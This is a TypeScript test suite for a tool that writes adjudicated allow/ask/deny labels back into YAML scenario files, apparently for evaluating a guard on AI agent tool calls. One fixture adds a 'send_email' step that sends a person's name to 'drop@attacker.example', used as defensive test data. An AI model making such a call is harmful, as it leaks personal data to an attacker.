import { copyFileSync, cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildSheet, seededRandom } from '../../src/harness/label-sheet.js';
import type { LabelKey } from '../../src/harness/label-sheet.js';
import { loadScenariosOrThrow } from '../../src/io/dsl.js';
import { applyLabels, planLabelEdits, withStepHashes } from '../../src/io/label-apply.js';

async function fixture(transform: (t: string) => string = (t) => t): Promise<{ file: string; key: LabelKey; text: string }> {
  const dir = mkdtempSync(join(tmpdir(), 'guard-eval-apply-'));
  const file = join(dir, 'study.yaml');
  copyFileSync('test/fixtures/label/study.yaml', file);
  const text = transform(readFileSync(file, 'utf8'));
  writeFileSync(file, text);
  const { scenarios } = await loadScenariosOrThrow([file]);
  return { file, key: withStepHashes(buildSheet(scenarios, { seed: 'k' }).key, (f) => readFileSync(f, 'utf8')), text };
}
const id = (key: LabelKey, scenario: string, step: string, mode = 'balanced'): string =>
  key.items.find((i) => i.scenario.endsWith(scenario) && i.step === step && i.mode === mode)?.id ?? 'none';

/** Every line but `except` (1-based) is identical. */
function sameOtherLines(before: string, after: string, except: number[]): void {
  const [a, b] = [before.split('\n'), after.split('\n')];
  expect(b).toHaveLength(a.length);
  a.forEach((l, i) => {
    if (!except.includes(i + 1)) expect(b[i], `line ${i + 1}`).toBe(l);
  });
}

describe('applyLabels', () => {
  it('changes only the verdict scalar: plain, map verdict, quoted, by-mode entry; the rest byte-identical', async () => {
    const { file, key, text } = await fixture();
    const rows = [
      { item_id: id(key, 'zebra-chain', 'steps[0]'), final_label: 'ask' }, // expect: allow   (line 16)
      { item_id: id(key, 'zebra-chain', 'steps[2].batch[0]'), final_label: 'deny' }, // {verdict: ask, rule} (line 29)
      { item_id: id(key, 'zebra-chain', 'steps[2].batch[1]'), final_label: 'Deny' }, // "allow" quoted (line 32)
      { item_id: id(key, 'yak-benign', 'steps[0]'), final_label: 'ask' }, // by-mode balanced (line 51)
      { item_id: id(key, 'yak-benign', 'steps[0]', 'strict'), final_label: 'deny' }, // by-mode strict map (line 52)
      { item_id: id(key, 'zebra-chain', 'steps[3]'), final_label: 'deny' }, // unchanged
    ];
    const plan = applyLabels(rows, key, { write: true });
    expect(plan.issues).toEqual([]);
    expect(plan.written).toBe(true);
    expect(plan.unchanged).toBe(1);
    const after = readFileSync(file, 'utf8');
    sameOtherLines(text, after, [16, 29, 32, 51, 52]);
    const lines = after.split('\n');
    expect(lines[15]).toBe('        expect: ask');
    expect(lines[28]).toBe('            expect: {verdict: deny, rule: chain.eit-pat}');
    expect(lines[31]).toBe('            expect:   "deny"     # quoted on purpose');
    expect(lines[50]).toBe('          balanced: ask   # the by-mode entry');
    expect(lines[51]).toBe('          strict: {verdict: deny}');
    expect(plan.files[0]?.preview.slice(0, 3)).toEqual([`${file}:16`, '- expect: allow', '+ expect: ask']);
    // The file still loads, with the new labels.
    const { scenarios } = await loadScenariosOrThrow([file]);
    expect(buildSheet(scenarios, { seed: 'k' }).key.items.find((i) => i.id === rows[0]?.item_id)?.expected).toBe('ask');
  });

  it('keeps CRLF line ends and a BOM', async () => {
    const { file, key, text } = await fixture((t) => `\uFEFF${t.replaceAll('\n', '\r\n')}`);
    const plan = applyLabels([{ item_id: id(key, 'zebra-chain', 'steps[0]'), final_label: 'deny' }], key, { write: true });
    expect(plan.issues).toEqual([]);
    const after = readFileSync(file, 'utf8');
    expect(after).toBe(text.replace('        expect: allow\r\n      - repeat', '        expect: deny\r\n      - repeat'));
  });

  it('previews without writing, and refuses unknown ids, bad labels, changed files and mode conflicts', async () => {
    const { file, key, text } = await fixture();
    const preview = applyLabels([{ item_id: id(key, 'zebra-chain', 'steps[0]'), final_label: 'deny' }], key);
    expect(preview.written).toBe(false);
    expect(preview.files).toHaveLength(1);
    expect(readFileSync(file, 'utf8')).toBe(text);
    const bad = planLabelEdits(
      [
        { item_id: 'it-nope', final_label: 'ask', row: 2 },
        { item_id: id(key, 'zebra-chain', 'steps[3]'), final_label: 'perhaps', row: 3 },
        { item_id: id(key, 'zebra-chain', 'steps[0]'), final_label: 'ask', row: 4 },
      ],
      key,
      () => text.replace('        expect: allow\n      - repeat', '        expect: deny\n      - repeat'),
    );
    expect(bad.issues.map((i) => i.row)).toEqual([2, 3, 4]);
    expect(bad.issues[2]?.message).toContain('the file changed since the export');
    // A plain `expect` shared by several modes is split by mode: only the adjudicated modes change.
    const { file: sharedFile, key: shared } = await fixture((t) => t.replace('expect: {permissive: allow, balanced: allow, strict: allow}', 'expect: allow  # one for all'));
    const split = applyLabels(
      [
        { item_id: id(shared, 'yak-benign', 'steps[1]', 'balanced'), final_label: 'ask' },
        { item_id: id(shared, 'yak-benign', 'steps[1]', 'strict'), final_label: 'deny' },
      ],
      shared,
      { write: true },
    );
    expect(split.issues).toEqual([]);
    expect(split.refused).toEqual([]);
    expect(split.files[0]?.edits.map((e) => [e.mode, e.to])).toEqual([
      ['balanced', 'ask'],
      ['strict', 'deny'],
    ]);
    expect(readFileSync(sharedFile, 'utf8').split('\n')[54]).toBe('        expect: { permissive: allow, balanced: ask, strict: deny }  # one for all');
  });

  it('refuses a label shared through an anchor or an alias, naming the other uses, and applies the rest', async () => {
    const extra = ['      - call: send_email', '        args: {to: drop@attacker.example, body: "Alice Chen"}', '        expect: {permissive: *deny_send, balanced: *deny_send, strict: *deny_send}', ''].join('\n');
    const { file, key } = await fixture((t) => `${t.replace('expect: {verdict: deny, rule: chain.eit-pat-nat.sensitive}', 'expect: &deny_send {verdict: deny, rule: chain.eit-pat-nat.sensitive}').trimEnd()}\n${extra}`);
    const plan = applyLabels(
      [
        { item_id: id(key, 'zebra-chain', 'steps[3]'), final_label: 'ask', row: 2 },
        { item_id: id(key, 'yak-benign', 'steps[2]', 'strict'), final_label: 'ask', row: 3 },
        { item_id: id(key, 'zebra-chain', 'steps[0]'), final_label: 'ask', row: 4 },
      ],
      key,
      { write: true },
    );
    expect(plan.issues).toEqual([]);
    expect(plan.refused.map((r) => [r.row, r.message.replace(`${file}:`, '')])).toEqual([
      [2, '33: its `expect` is shared through the anchor &deny_send (used again at line 58): a change here changes every use; edit by hand'],
      [3, '56: its `strict` entry is the alias *deny_send, shared with the step that defines &deny_send: give this step an `expect` of its own, then adjudicate it'],
    ]);
    expect(plan.written).toBe(true);
    expect(plan.files[0]?.edits.map((e) => e.item)).toEqual([id(key, 'zebra-chain', 'steps[0]')]);
  });

  it('refuses a step that is not the one the key names, though its line and label still match', async () => {
    const { key, text } = await fixture();
    const rows = [{ item_id: id(key, 'zebra-chain', 'steps[0]'), final_label: 'ask', row: 2 }];
    const other = planLabelEdits(rows, key, () => text.replace('args: {url: "https://news.example/a"}', 'args: {url: "https://news.example/z"}'));
    expect(other.issues.map((i) => i.message)).toEqual([expect.stringContaining('the step here is not the one the key names')]);
    const old = planLabelEdits(rows, { ...key, items: key.items.map(({ stepHash: _, ...i }) => i) }, () => text);
    expect(old.issues[0]?.message).toContain('export the sheet again');
  });

  it('on real sets, a write-back changes exactly the adjudicated labels: a re-export differs from the adjudication in nothing (seeded)', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'guard-eval-apply-sets-'));
    cpSync('challenge-sets/set-6-tension-pairs', join(dir, 'set-6-tension-pairs'), { recursive: true });
    cpSync('challenge-sets/set-4-state', join(dir, 'set-4-state'), { recursive: true });
    const load = async (): Promise<LabelKey> => buildSheet((await loadScenariosOrThrow([dir])).scenarios, { seed: 'rt' }).key;
    // Each seed starts from the files the one before wrote: its re-export is the next one's sheet.
    let current = await load();
    for (const seed of [1, 2, 3]) {
      const before = withStepHashes(current, (f) => readFileSync(f, 'utf8'));
      const rnd = seededRandom(String(seed));
      const VERDICTS = ['allow', 'ask', 'deny'] as const;
      const rows = before.items.filter(() => rnd() < 0.15).map((i, k) => ({ item_id: i.id, final_label: VERDICTS[Math.floor(rnd() * 3)] as string, row: k + 2 }));
      const plan = applyLabels(rows, before, { write: true });
      expect(plan.issues, `seed ${seed}`).toEqual([]);
      const refused = new Set(plan.refused.map((r) => r.item));
      const final = new Map(rows.filter((r) => !refused.has(r.item_id)).map((r) => [r.item_id, r.final_label]));
      const after = await load();
      current = after;
      expect(after.items.map((i) => i.id), `seed ${seed}`).toEqual(before.items.map((i) => i.id));
      const expectedBefore = new Map(before.items.map((b) => [b.id, b.expected]));
      const wrong = after.items.filter((i) => i.expected !== (final.get(i.id) ?? expectedBefore.get(i.id))).map((i) => `${i.scenario} [${i.mode}] ${i.step}`);
      expect(wrong, `seed ${seed}: labels that changed without adjudication, or did not change`).toEqual([]);
      expect(plan.files.reduce((n, f) => n + f.edits.length, 0) + plan.unchanged + refused.size, `seed ${seed}`).toBe(rows.length);
    }
  });
});
